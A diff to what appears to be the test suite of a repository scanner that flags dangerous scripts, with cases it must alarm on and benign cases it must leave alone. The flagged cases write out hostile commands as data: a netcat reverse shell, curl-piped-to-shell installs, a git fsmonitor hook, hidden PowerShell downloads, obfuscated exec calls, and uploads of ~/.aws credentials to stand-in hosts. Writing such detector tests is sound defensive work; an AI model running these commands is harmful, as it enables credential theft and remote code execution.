@@ -68,7 +68,6 @@ describe('scripts', () => {
     ['a.py', "requests.post('https://x.test', json=dict(os.environ))"],
     ['a.py', "getattr(__import__('o' + 's'), 'sys' + 'tem')('x')"],
     ['a.sh', 'nc -e /bin/sh host.test 4444'],
-    ['a.desktop', '[Desktop Entry]\nExec=sh -c "x"'],
     ['.git/config', '[core]\n\tfsmonitor = "curl http://x.test | sh"'],
     ['sitecustomize.py', 'import os'],
   ])('%s: %s', async (path, text) => {
@@ -84,7 +83,6 @@ describe('instructions and notes', () => {
   it.each([
     ['README.md', '```\ncurl http://files.test/i.sh | sudo bash\n```'],
     ['README.md', 'Run `curl -fsSL https://203.0.113.7/i.sh | sh` first.'],
-    ['Dockerfile', 'FROM python:3.12\nRUN wget -qO- http://files.test/setup | bash\n'],
     ['INSTALL.txt', 'bash <(curl -s https://pastebin.com/raw/abcd)'],
   ])('%s: %s', async (path, text) => {
     expect(alarms(await findingsOf(programs, [textFile(path, text)]))).toEqual(['medium ASY-EXE-002']);
@@ -119,6 +117,19 @@ describe('scripts that are not Python', () => {
     ['a.bat', 'certutil -urlcache -f http://host.example/a.exe a.exe', 'high ASY-EXE-002'],
     ['a.sh', 'echo aWQ= | base64 -d | sh', 'high ASY-EXE-002'],
     ['a.sh', 'wget http://host.example/x -O x; chmod +x x; ./x', 'high ASY-EXE-002'],
+    ['a.bat', 'powershell -w hidden -c "Invoke-WebRequest https://host.example/a.exe -OutFile a.exe"', 'high ASY-EXE-002'],
+    ['a.bat', 'set p=power\nset s=shell\n%p%%s% -w hid^den -c "iwr https://host.example/a -o a.exe"', 'high ASY-EXE-002'],
+    ['a.bat', 'curl -s -o %TEMP%\\u.exe https://host.example/u.exe\nstart "" /b %TEMP%\\u.exe', 'high ASY-EXE-002'],
+    ['a.ps1', '$s = Invoke-RestMethod https://host.example/a\nInvoke-Expression $s', 'high ASY-EXE-002'],
+    ['a.sh', 'tar czf - ~/.aws | curl -F "f=@-" https://host.example', 'high ASY-EXE-002'],
+    ['a.sh', 'zip -qr /tmp/a.zip ~/.aws\ncurl -sT /tmp/a.zip https://host.example/', 'high ASY-EXE-002'],
+    ['a.jl', 'include(download("https://host.example/x.jl"))', 'high ASY-EXE-002'],
+    ['a.py', 'eval(compile("".join(map(chr, [105, 100])), "x", "exec"))', 'high ASY-EXE-002'],
+    ['a.py', 'exec("".join(chr(c ^ 7) for c in DATA))', 'high ASY-EXE-002'],
+    ['a.py', 'exec(open("tokenizer.bin").read())', 'high ASY-EXE-002'],
+    ['a.py', 'import ctypes\nctypes.CDLL("./libx.so")', 'medium ASY-EXE-002'],
+    ['a.py', 'import torch\ntorch.hub.load("someone/model", "net", trust_repo=True)', 'medium ASY-EXE-002'],
+    ['a.py', 'import os, requests\nfor f in os.listdir(os.path.expanduser("~/.aws")):\n    requests.post("https://host.example", data=open(f).read())', 'high ASY-EXE-002'],
   ])('%s: %s', async (name, text, expected) => {
     expect(alarms(await findingsOf(programs, [textFile(name, text)]))).toEqual([expected]);
   });
@@ -128,6 +139,9 @@ describe('scripts that are not Python', () => {
     ['a.js', '// see child_process of Node\nimport { pipeline } from "@huggingface/transformers";\nconst out = await fetch("https://host.example/model.json");'],
     ['run.sh', '#!/bin/bash\nset -e\npython train.py --lr 1e-4\nwget https://repo.example.com/a.sh -O a.sh && bash a.sh\n'],
     ['run.bat', '@echo off\npython -m venv venv\ncall venv\\Scripts\\activate\npip install -r requirements.txt\n'],
+    ['setup.sh', 'curl -LsSf https://astral.sh/uv/install.sh | sh\nwget https://repo.anaconda.com/miniconda/m.sh -O /tmp/m.sh && bash /tmp/m.sh\nscp -i ~/.ssh/id_rsa a host:\ncurl -X POST -d @body.json http://localhost:8000/\n'],
+    ['setup.ps1', 'irm https://astral.sh/uv/install.ps1 | iex\n'],
+    ['load.py', 'import ctypes, torch\nctypes.CDLL("libcudart.so")\ntorch.hub.load("pytorch/vision", "resnet18", trust_repo=True)\nexec(open("version.py").read())\ns = "".join(chr(c) for c in [72, 105])\n'],
     ['run.ps1', 'Invoke-WebRequest https://host.example/model.gguf -OutFile model.gguf\n'],
   ])('leave alone %s', async (name, text) => {
     expect(alarms(await findingsOf(programs, [textFile(name, text)]))).toEqual([]);
